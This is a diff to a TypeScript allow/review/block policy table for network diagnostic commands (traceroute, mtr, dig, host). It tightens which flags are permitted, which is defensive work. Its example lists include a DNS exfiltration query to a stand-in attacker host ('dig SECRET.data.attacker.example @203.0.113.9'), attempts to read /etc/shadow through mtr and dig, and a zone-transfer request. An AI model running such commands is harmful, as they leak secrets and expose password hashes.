@@ -25,19 +25,23 @@ export const asking: readonly CommandSpec[] = [
     programs: ["traceroute", "traceroute6", "tracepath", "tracepath6"],
     because: "Shows the way to a host",
     flags: `-n -b -I -T -U -F -4 -6 --mtu --max-hops=int[1..64] --queries=int[1..5] --wait=number --port=port --first=int[1..64]
-      -m=int[1..64] -q=int[1..5] -w=number -p=port -f=int[1..64] -N=int[1..32] -l=int[0..1500] -i=interface -z=number -e -A --icmp
+      -m=int[1..64] -q=int[1..5] -w=number -p=port -f=int[1..64] -N=int[1..32] -l=int[0..1500] -i=interface -z=number -e --icmp
       --tcp --udp`,
+    refuse: { "-A --as-path-lookups": review("asks a registry outside the network") },
     operands: "host int[40..1500]?",
-    examples: { allow: ["traceroute -n 10.0.0.1", "tracepath web-01"], review: ["traceroute -g x y"] },
+    examples: { allow: ["traceroute -n 10.0.0.1", "tracepath web-01"], review: ["traceroute -g x y", "traceroute -A web-01"] },
   },
   {
     id: "mtr",
     programs: ["mtr"],
     because: "Shows the way to a host and what is lost on it",
-    flags: `-r -w -c=int[1..20] -n -b -4 -6 -i=number -T -u -P=port -z -o=word -m=int[1..64] -s=int[28..1500] -j -C -l --report
-      --report-wide --report-cycles=int[1..20] --no-dns --json --csv --tcp --udp --aslookup --show-ips --port=port
+    flags: `-r -w -c=int[1..20] -n -b -4 -6 -i=number -T -u -P=port -o=word -m=int[1..64] -s=int[28..1500] -j -C -l --report
+      --report-wide --report-cycles=int[1..20] --no-dns --json --csv --tcp --udp --show-ips --port=port
       --max-ttl=int[1..64]`,
-    refuse: { "-F=text --filename=text -x --xml --raw -p --split -Q=text -B=text": review("reads a file, or never ends") },
+    refuse: {
+      "-F=text --filename=text -x --xml --raw -p --split -Q=text -B=text": review("reads a file, or never ends"),
+      "-z --aslookup -y=text --ipinfo=text": review("asks a registry outside the network"),
+    },
     operands: "host",
     needs: [{ flags: "-r -w --report --report-wide -j --json -C --csv", because: "Otherwise it waits for keys", mend: "add `-r -c 5`" }],
     examples: { allow: ["mtr -r -c 5 10.0.0.1", "mtr --report --no-dns web-01"], review: ["mtr web-01", "mtr -r -F /etc/shadow"] },
@@ -46,18 +50,24 @@ export const asking: readonly CommandSpec[] = [
     id: "dig",
     programs: ["dig", "kdig", "delv"],
     because: "Asks the host's resolver",
-    flags: `+short +noall +answer +trace +stats +tcp +notcp +vc +nocmd +nocomments +noquestion +noauthority +noadditional +nostats
-        +multiline +dnssec +norecurse +noidnout +nssearch +identify +all +cmd +comments +question +authority +additional
+    flags: `+short +noall +answer +stats +tcp +notcp +vc +nocmd +nocomments +noquestion +noauthority +noadditional +nostats
+        +multiline +dnssec +norecurse +noidnout +identify +all +cmd +comments +question +authority +additional
         +time=int[1..20] +tries=int[1..5] +retry=int[0..5] +timeout=int[1..20] +bufsize=int +ndots=int -4 -6 -u -r -x=host -t=dig.type
         -q=host -c=(IN) -p=port`,
     refuse: {
       "-f=text -k=text -y=text": block("reads a file, or carries a key"),
       "-b=text -m +subnet=text +keepopen +https?text +tls +ednsopt=text +cookie?text": review("asks in an unusual way"),
+      "+trace +nssearch": review("asks other servers than the host's own resolver"),
     },
-    operands: "dig.argument*",
+    operands: "dig.argument? dig.argument? dig.argument? dig.argument?",
     examples: {
       allow: ["dig +short web-01.example.com", "dig example.com MX", "dig -x 10.0.0.1"],
-      review: ["dig SECRET.data.attacker.example @203.0.113.9", "dig axfr example.com"],
+      review: [
+        "dig SECRET.data.attacker.example @203.0.113.9",
+        "dig axfr example.com",
+        "dig +trace example.com",
+        "dig a.x b.x c.x d.x e.x",
+      ],
       block: ["dig -f /etc/shadow"],
     },
   },
@@ -74,8 +84,8 @@ export const asking: readonly CommandSpec[] = [
     id: "host",
     programs: ["host"],
     because: "Asks the host's resolver",
-    flags: "-a -v -4 -6 -T -C -s -r -t=dig.type -W=int[1..20] -R=int[1..5] -N=int",
-    refuse: { "-l -A -c=text -m=text -U -w": review("asks for a whole zone, or waits for ever") },
+    flags: "-a -v -4 -6 -T -s -r -t=dig.type -W=int[1..20] -R=int[1..5] -N=int",
+    refuse: { "-l -A -c=text -m=text -U -w -C": review("asks for a whole zone, asks other servers, or waits for ever") },
     operands: "host",
     examples: { allow: ["host web-01.example.com", "host -t mx example.com"], review: ["host x 203.0.113.9", "host -l example.com"] },
   },
